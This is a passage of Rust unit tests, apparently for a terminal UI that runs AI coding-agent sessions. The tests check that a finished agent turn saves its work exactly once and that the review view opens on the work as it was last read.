    assert_eq!(a.entries.len(), 1);
    assert_eq!(a.entries[0].phase, Phase::Unreachable);
    assert!(status(&a).contains("does not answer"), "{}", status(&a));
}

#[test]
fn a_finished_turn_saves_the_work_once_and_the_review_opens_on_what_was_read() {
    let (mut a, _rx) = app_with_backend();
    let home = tempfile::tempdir().unwrap();
    a.paths.home = home.path().to_path_buf();
    add(&mut a, "beta", 2, Phase::Running);
    // What a launch saved.
    let saved = crate::work::Saved::at(home.path(), "beta-x");
    std::fs::create_dir_all(saved.repo()).unwrap();
    std::fs::write(saved.repo().join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(saved.dir().join("work.json"), "{}").unwrap();
    let saves = |effects: &[Effect]| {
        effects
            .iter()
            .filter(|e| matches!(e, Effect::SaveWork { slug, .. } if slug == "beta-x"))
            .count()
    };
    let turn = |a: &mut App| {
        output(a, 2, b"\x1b[20;1H* Thinking (esc to interrupt)");
        assert_eq!(a.entries[0].state(), AgentState::Working);
        output(a, 2, b"\x1b[2J\x1b[1;1HDone\r\n> ");
        a.entries[0].activity.backdate(Duration::from_secs(2));
        a.on_tick(Instant::now());
        std::mem::take(&mut a.effects)
    };
    assert_eq!(saves(&turn(&mut a)), 1, "a turn's end saves its work");
    assert_eq!(saves(&turn(&mut a)), 0, "not again while it saves");
    let review = crate::work::review::Review {
        commits: vec![("0123456789".into(), "the parser".into())],
        ..Default::default()
    };
    let _ = a.update(AppEvent::Work(crate::tui::event::WorkRead {
        slug: "beta-x".into(),
        review: Some(review.clone()),
        error: None,
        live: true,
    }));
    assert_eq!(saves(&turn(&mut a)), 1, "saved: the next turn saves again");
    // The review opens on the work as last read, and reads it again.
    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
    let effects = key(&mut a, KeyCode::Char('v'), KeyModifiers::NONE);
    assert!(effects
        .iter()
        .any(|e| matches!(e, Effect::WatchWork { slug, .. } if slug == "beta-x")));
    match &a.modal {
        Some(Modal::Review(v)) => {
            assert_eq!(v.review.as_ref(), Some(&review));
            assert!(!v.live, "as last saved until the bottle answers");
        }
        _ => panic!("the review view is open"),
    }
}
